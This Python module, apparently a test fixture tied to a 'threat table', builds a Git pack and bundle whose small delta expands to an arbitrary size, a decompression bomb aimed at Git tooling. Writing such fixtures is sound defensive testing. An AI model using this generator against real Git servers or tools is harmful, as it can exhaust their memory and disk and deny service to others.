"""A pack of a few kilobytes that unfolds to any size: a delta that copies its base again and again.

Row 20 of the threat table.
"""

from __future__ import annotations

import hashlib
import struct
import zlib

_BASE = bytes(0xFFFFFF)
_COPY_OF_ALL = bytes([0xF0, 0xFF, 0xFF, 0xFF])
_COMMIT, _TREE, _BLOB, _DELTA = 1, 2, 3, 7


def bomb(mebibytes: int) -> tuple[str, bytes]:
    """The commit of a pack whose one file unfolds to about so much, and the pack."""
    copies = mebibytes * 1024 * 1024 // len(_BASE)
    delta = _number(len(_BASE)) + _number(len(_BASE) * copies) + _COPY_OF_ALL * copies
    base = _id(b"blob", _BASE)
    unfolded = _id(b"blob", *[_BASE] * copies)
    tree = b"100644 a\0" + base + b"100644 b\0" + unfolded
    commit = b"tree %s\nauthor a <a@b> 1 +0000\ncommitter a <a@b> 1 +0000\n\nx" % (
        _id(b"tree", tree).hex().encode()
    )
    entries = (
        _entry(_BLOB, _BASE),
        _entry(_DELTA, delta, base),
        _entry(_TREE, tree),
        _entry(_COMMIT, commit),
    )
    pack = b"PACK" + struct.pack(">II", 2, len(entries)) + b"".join(entries)
    digest = hashlib.sha1(pack, usedforsecurity=False).digest()
    return _id(b"commit", commit).hex(), pack + digest


def bundle_of(commit: str, pack: bytes) -> bytes:
    """The file in which a pack travels on a disk."""
    return b"# v2 git bundle\n%s refs/heads/main\n\n%s" % (commit.encode(), pack)


def _entry(kind: int, content: bytes, base: bytes = b"") -> bytes:
    size = len(content)
    head = bytearray([kind << 4 | size & 15])
    size >>= 4
    while size:
        head[-1] |= 0x80
        head.append(size & 0x7F)
        size >>= 7
    return bytes(head) + base + zlib.compress(content, 9)


def _number(value: int) -> bytes:
    digits = bytearray([value & 0x7F])
    while value := value >> 7:
        digits[-1] |= 0x80
        digits.append(value & 0x7F)
    return bytes(digits)


def _id(kind: bytes, *parts: bytes) -> bytes:
    digest = hashlib.sha1(b"%s %d\0" % (kind, sum(map(len, parts))), usedforsecurity=False)
    for part in parts:
        digest.update(part)
    return digest.digest()
